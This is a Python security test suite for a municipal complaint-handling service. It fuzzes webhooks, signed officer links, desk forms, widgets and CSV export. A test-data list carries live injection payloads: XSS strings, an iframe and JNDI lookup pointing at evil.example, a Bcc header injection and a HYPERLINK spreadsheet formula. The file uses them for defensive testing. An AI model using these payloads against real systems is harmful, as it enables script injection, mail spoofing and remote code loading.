"""What somebody who means harm sends, at every door: it is refused or shown as the letters it is.

`make fuzz` sends 100,000 bodies through the first door and as many links; here it is a handful of each.
"""

import base64
import csv
import hashlib
import json
import os
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from aduan import agency_notice
from aduan.aws import inbox
from aduan.aws.items import to_item
from aduan.aws.service_request_table import ServiceRequestTable
from aduan.change import Notice
from aduan.conversation import Conversation, mentioned, reply
from aduan.correction import Correction
from aduan.desk_link import (
    DeskLink,
    ExpiredLinkError,
    ForgedLinkError,
    form_token,
    is_form_token,
    read,
    read_overview,
)
from aduan.meta import inbound
from aduan.meta.signature import is_signed
from aduan.officer import seen_by_officers
from aduan.service_request import Status
from aduan.understanding import understand
from layers.jurisdictions.training.corrections import write
from tests.adapters.test_webhook import JSON, paths, replaced
from tests.builders import CITIZEN, KEDIRI, NUMBER, OTHER_NUMBER, a_dispatched_request
from tests.cloud import SECRETS, Cloud
from tests.functions.conftest import Handler, Loader, Output
from tests.webhooks import RECEIVED, a_delivery, names, on_the_wire, signature

BODIES = int(os.environ.get("BODIES", "0"))
APP_SECRET, LINK_KEY = SECRETS["whatsapp-app-secret"], SECRETS["link-key"].encode()
NOW = datetime.now(UTC).replace(microsecond=0)
LINK = DeskLink(service_request_id=NUMBER, attempt=1, expires=NOW + timedelta(days=1)).sign(
    LINK_KEY
)
# Into a page, an attribute, a style, an address, a mail's header, a template and a spreadsheet.
HOSTILE = (
    '<img src=x onerror="alert(1)">',
    "\"'><svg/onload=alert(1)><script>alert(2)</script>",
    "</textarea></title></style><iframe src=//evil.example>",
    "<cwdb-action action='call' endpoint='arn:evil'>{}</cwdb-action>",
    "<a href='javascript:alert(1)'>klik</a>",
    "Jl. Veteran\r\nBcc: semua@evil.example\r\n\r\n<b>",
    "{link} {0.__class__} %s ${jndi:ldap://evil.example}",
    '=HYPERLINK("http://evil.example";"klik")',
)
OUR_TAGS = re.compile(r"^(cwdb-action|[a-z][a-z0-9]*)$")
NEVER = {"iframe", "object", "embed", "base", "link", "use", "foreignobject"}


def tries(quick: int, *, of: int = BODIES) -> settings:
    return settings(
        max_examples=of or quick,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


class Seen(HTMLParser):
    """What a browser would make of a page: tags, attributes, and no script but ours."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def harms(page: str) -> list[str]:
    """What in a page did not come from us."""
    found = []
    for tag, attributes in Seen(page).tags:
        if tag in NEVER or not OUR_TAGS.match(tag):
            found.append(tag)
        found += [name for name in attributes if name.startswith("on")]
        for address in (attributes.get("href"), attributes.get("src"), attributes.get("action")):
            if address and re.match(r"\s*(javascript|data|vbscript):", address, re.IGNORECASE):
                found.append(address)
        if "arn:evil" in str(attributes.get("endpoint")):
            found.append("endpoint")
    return found


def test_what_would_harm_is_recognised_here() -> None:
    for page in HOSTILE[:5]:
        assert harms(f"<p>{page}</p>")
    assert harms("<p>&lt;script&gt;</p>") == []


# Meta's door


@pytest.fixture
def deliver(function: Loader, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Post a body; gives the status, and what went onto the queue."""
    letters: list[inbox.Letter] = []
    handler = function("receive_webhook")
    monkeypatch.setattr("aduan.aws.inbox.put", lambda url, put: letters.extend(put))

    def deliver(raw: bytes, signed: str | None = None) -> tuple[int, list[inbox.Letter]]:
        letters.clear()
        answer = handler(
            {
                "requestContext": {"http": {"method": "POST"}},
                "headers": {
                    "x-hub-signature-256": signature(raw, APP_SECRET) if signed is None else signed
                },
                "body": base64.b64encode(raw).decode(),
                "isBase64Encoded": True,
            }
        )
        return answer["statusCode"], list(letters)

    return deliver


@tries(60)
@given(st.data())
def test_whatever_body_is_signed_is_taken_thought_about_and_written_down(
    deliver: Any, capsys: pytest.CaptureFixture[str], data: st.DataObject
) -> None:
    """From the wire to what the table is asked to keep, with anything in the place of anything."""
    name = data.draw(st.sampled_from(names("whatsapp") + names("instagram")))
    whole = a_delivery(name)
    damaged = replaced(whole, data.draw(st.sampled_from(paths(whole))), data.draw(JSON))
    raw = data.draw(st.just(on_the_wire(damaged)) | st.binary(max_size=300))

    status, letters = deliver(raw)

    assert status == 200
    for letter in letters:
        message = inbound.parse(json.loads(json.dumps(letter.body)), RECEIVED)
        if message.is_news:
            continue
        chat = Conversation(citizen_id=CITIZEN, channel=message.sender.channel)
        mentioned(chat, message)
        turn = reply(chat, message, KEDIRI, requests={}, number=NUMBER, now=RECEIVED)
        json.dumps(to_item(turn.conversation))
        for effect in turn.change.effects:
            json.dumps(to_item(effect))
    capsys.readouterr()


@tries(40)
@given(st.binary(max_size=200), st.text(max_size=80))
@example(b"", "sha256=" + hashlib.sha256(b"").hexdigest())
def test_whatever_is_not_signed_leaves_no_trace(deliver: Any, raw: bytes, signed: str) -> None:
    assert deliver(raw, signed) == (401, [])


def test_a_signature_serves_its_own_bytes_alone(deliver: Any) -> None:
    """Replayed over another body, over the same in another order, or cut."""
    raw = on_the_wire(a_delivery("whatsapp/text"))
    signed = signature(raw, APP_SECRET)
    reordered = json.dumps(dict(reversed(json.loads(raw).items()))).encode()

    assert deliver(raw, signed)[0] == 200
    for other in (reordered, raw + b" ", raw[:-1], on_the_wire(a_delivery("whatsapp/image"))):
        assert deliver(other, signed) == (401, [])
    assert deliver(raw, signed.upper()) == (401, [])
    assert deliver(raw, signed.removeprefix("sha256=")) == (401, [])


def test_a_replayed_delivery_is_known_by_its_messages(deliver: Any) -> None:
    """A true signature can be replayed for ever: the queue, and then the table, know the message's id."""
    raw = on_the_wire(a_delivery("whatsapp/text"))
    (first,), (again,) = deliver(raw)[1], deliver(raw)[1]

    assert first.deduplication_id == again.deduplication_id


def test_secrets_are_compared_in_constant_time() -> None:
    """No `==` on a signature, a token or a key anywhere: the time it takes would tell how much is right."""
    source = Path(__file__).parents[2]
    compared = re.compile(
        r"(signature|token|secret|_key\(\)|challenge)\w*\s*(==|!=)|(==|!=)\s*\w*(signature|secret)"
    )
    files = [
        *(source / "functions").glob("*/*.py"),
        *(source / "layers/aduan/python/aduan").rglob("*.py"),
    ]
    assert [
        f"{file.name}: {line}"
        for file in files
        for line in file.read_text("utf-8").splitlines()
        if compared.search(line)
    ] == []
    assert is_signed(b"x", signature(b"x", "s"), ["s"])


# The officers' door


@tries(100)
@given(st.text(max_size=120) | st.text("0123456789abcdef-.", max_size=60))
def test_no_link_that_is_made_up_leads_anywhere(link: str) -> None:
    for reads in (read, read_overview):
        with pytest.raises((ForgedLinkError, ExpiredLinkError)):
            reads(link, LINK_KEY, NOW)


@tries(100)
@given(st.integers(0, len(LINK) - 1), st.characters(codec="ascii", exclude_characters="/?#"))
def test_no_letter_of_a_link_can_be_changed(at: int, letter: str) -> None:
    changed = LINK[:at] + letter + LINK[at + 1 :]
    if changed != LINK:
        with pytest.raises(ForgedLinkError):
            read(changed, LINK_KEY, NOW)


def test_a_link_is_of_one_kind_one_report_one_assignment_one_time() -> None:
    assert read(LINK, LINK_KEY, NOW).service_request_id == NUMBER
    with pytest.raises(ForgedLinkError):
        read_overview(LINK, LINK_KEY, NOW)
    with pytest.raises(ForgedLinkError):
        read(LINK.replace(NUMBER, OTHER_NUMBER), LINK_KEY, NOW)
    with pytest.raises(ForgedLinkError):
        read(LINK, b"another city's key", NOW)
    with pytest.raises(ExpiredLinkError):
        read(LINK, LINK_KEY, NOW + timedelta(days=2))


def test_a_link_cannot_be_guessed() -> None:
    """96 bits: a thousand guesses a second hit one of a hundred thousand links in 10^16 years or so."""
    signatures = {
        DeskLink(service_request_id=NUMBER, attempt=n, expires=NOW).sign(LINK_KEY)[-19:]
        for n in range(2000)
    }
    assert len(signatures) == 2000
    for place in range(1, 19):
        assert len({each[place] for each in signatures}) == 36
    assert 36**18 > 2**93


@tries(100)
@given(st.text(max_size=60))
def test_no_form_is_sent_by_a_token_that_is_made_up_or_another_forms(token: str) -> None:
    assert not is_form_token(token, LINK, "dispatched.0", LINK_KEY)
    for link, seen in ((LINK, "dispatched.1"), (LINK[:-1], "dispatched.0")):
        assert not is_form_token(form_token(link, seen, LINK_KEY), LINK, "dispatched.0", LINK_KEY)


@pytest.fixture
def desk(function: Loader, cloud: Cloud) -> Handler:
    cloud.keeps(a_dispatched_request(status=Status.ACCEPTED, because="jenis laporan"))
    return function("agency_desk")


FIELDS = ("act", "form_token", "words", "better_agency", "photo", "until", "key", "__proto__")
ACTS = ("accept", "go", "solve", "before", "ask", "delay", "refuse", "partly", "../..", "")


@tries(25, of=BODIES // 50)
@given(
    st.dictionaries(st.sampled_from(FIELDS), st.text(max_size=40) | st.sampled_from(HOSTILE)),
    st.sampled_from(ACTS),
    st.booleans(),
    st.binary(max_size=80),
)
def test_whatever_form_is_posted_gets_a_page_that_holds_no_word_of_it_as_code(
    desk: Handler,
    cloud: Cloud,
    capsys: pytest.CaptureFixture[str],
    form: dict[str, str],
    act: str,
    is_ours: bool,
    tail: bytes,
) -> None:
    """Bad acts, dates and keys, broken encodings and file parts; with and without the page's own token."""
    now = ServiceRequestTable(cloud.reports).request(NUMBER)
    token = form_token(LINK, seen_by_officers(now), LINK_KEY)
    ours = {"act": act, "form_token": token} if is_ours else {"act": act}
    body = urlencode(form | ours).encode() + b"&" + tail
    answer = desk(
        {
            "requestContext": {"http": {"method": "POST"}},
            "pathParameters": {"link": LINK},
            "body": base64.b64encode(body).decode(),
            "isBase64Encoded": True,
        }
    )
    capsys.readouterr()

    assert answer["statusCode"] in (200, 303, 404, 409, 410, 422)
    assert harms(answer["body"]) == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_a_citizen_or_officer_wrote_is_letters_on_the_officers_pages(
    function: Loader, cloud: Cloud, hostile: str
) -> None:
    cloud.keeps(
        a_dispatched_request(
            description=hostile, address=hostile, area=hostile, reason=hostile, reopened=1,
            status_notes=hostile, because=hostile,
        )
    )  # fmt: skip
    get = {"requestContext": {"http": {"method": "GET"}}, "pathParameters": {"link": LINK}}
    page = function("agency_desk")(
        get | {"queryStringParameters": {"key": hostile, "done": hostile}}
    )

    assert page["statusCode"] == 200
    assert harms(page["body"]) == []
    assert "default-src 'none'" in page["headers"]["content-security-policy"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_a_citizen_wrote_is_one_line_of_a_mails_subject_and_never_its_header(
    hostile: str,
) -> None:
    request = a_dispatched_request(
        description=hostile, address=hostile, area=hostile, reason=hostile
    )
    told = [
        agency_notice.write(request, KEDIRI, link="https://x.example/1", expires=NOW),
        *(
            agency_notice.write_news(request, KEDIRI, Notice(agency="dishub", what=what), link="")
            for what in KEDIRI.agency_texts["notices"]
        ),
    ]
    for notice in told:
        assert notice.subject.isprintable()
        assert notice.subject.isascii()
        assert len(notice.subject) <= 100
        assert "\r" not in notice.sms
        assert "\n" not in notice.sms


# The operators' door


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_anybody_wrote_is_letters_in_the_widgets(
    function: Loader, cloud: Cloud, output: Output, hostile: str
) -> None:
    request = cloud.keeps(
        a_dispatched_request(
            description=hostile, address=hostile, reason=hostile, because=hostile,
            status_notes=hostile, requested_datetime=NOW, updated_datetime=NOW,
        )
    )  # fmt: skip
    typed = dict.fromkeys(
        ("initials", "why", "what", "where", "remarks", "caller", "number", "address", "answer"),
        hostile,
    )
    told = {"theme": "light", "forms": {"all": typed | {"version": str(request.version)}}}
    events = [
        ("command_centre", {"view": "report", "id": NUMBER}),
        ("command_centre", {"view": "triage"}),
        ("command_centre", {"view": hostile, "id": hostile}),
        ("decide_report", {"act": "correct_place", "id": NUMBER}),
        ("decide_report", {"act": hostile, "id": NUMBER}),
        ("take_call", {"step": "check"}),
        ("take_call", {"step": "file", "by": hostile}),
        ("take_call", {"step": "join", "id": NUMBER, "click": hostile}),
        ("take_call", {"step": "open", "by": hostile}),
        ("redrive_failures", {"queue": hostile}),
    ]
    for name, event in events:
        shown = function(name)({**event, "widgetContext": told})
        assert harms(shown) == [], (name, event)


@tries(15, of=BODIES // 100)
@given(
    st.dictionaries(st.sampled_from(["view", "id", "act", "step", "citizen", "kept"]), JSON), JSON
)
def test_whatever_a_widget_is_sent_it_answers_with_a_page(
    function: Loader, cloud: Cloud, capsys: pytest.CaptureFixture[str], event: Any, context: Any
) -> None:
    for name in ("command_centre", "decide_report", "take_call", "redrive_failures"):
        shown = function(name)({**event, "widgetContext": context})
        assert isinstance(shown, str)
        assert harms(shown) == []
    capsys.readouterr()


# Out of the door


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_of_a_spreadsheet_begins_a_formula(tmp_path: Path, hostile: str) -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        text = start + hostile
        right = Correction.of(
            text, understand(text, KEDIRI), corrected_by=start + "x", service_code="other"
        )
        write([replace(right, text=text)], tmp_path / "c.csv")
        with (tmp_path / "c.csv").open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                assert [cell for cell in row if cell[:1] in "=+-@\t\r" and cell] == []
